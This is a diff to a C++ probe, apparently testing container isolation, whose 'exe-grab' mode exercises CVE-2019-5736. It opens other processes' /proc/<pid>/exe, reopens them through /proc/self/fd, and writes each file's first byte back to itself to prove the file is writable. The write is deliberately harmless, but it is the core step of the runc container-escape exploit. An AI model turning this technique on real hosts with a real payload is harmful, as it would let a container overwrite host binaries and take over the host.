@@ -4,8 +4,9 @@
 //
 //   attack exe-grab SECONDS   CVE-2019-5736: for SECONDS, try to open
 //                             /proc/<pid>/exe of every other process and
-//                             reopen it for writing; print "opened DEV:INO"
-//                             and "writable DEV:INO" for each new success.
+//                             reopen it and write to it; print "opened
+//                             DEV:INO" and "writable DEV:INO" for each new
+//                             success.
 #include <dirent.h>
 #include <fcntl.h>
 #include <sys/stat.h>
@@ -47,11 +48,16 @@ int exe_grab(int seconds) {
         std::string id = std::to_string(major(st.st_dev)) + ":" + std::to_string(minor(st.st_dev)) + ":" +
                          std::to_string(st.st_ino);
         if (opened.insert(id).second) std::printf("opened %s\n", id.c_str());
-        // The escape: reopen the executable for writing through the fd.
+        // The escape: reopen the executable for writing through the fd and
+        // write to it (its own first byte back, so a success harms nothing).
+        // Opening alone proves little: a sealed copy whose process has just
+        // exited can be opened, but not written.
         std::string again = "/proc/self/fd/" + std::to_string(fd);
-        int w = open(again.c_str(), O_WRONLY | O_CLOEXEC);
+        int w = open(again.c_str(), O_RDWR | O_CLOEXEC);
         if (w >= 0) {
-          if (writable.insert(id).second) std::printf("writable %s\n", id.c_str());
+          char c;
+          if (pread(w, &c, 1, 0) == 1 && pwrite(w, &c, 1, 0) == 1 && writable.insert(id).second)
+            std::printf("writable %s\n", id.c_str());
           close(w);
         }
       }
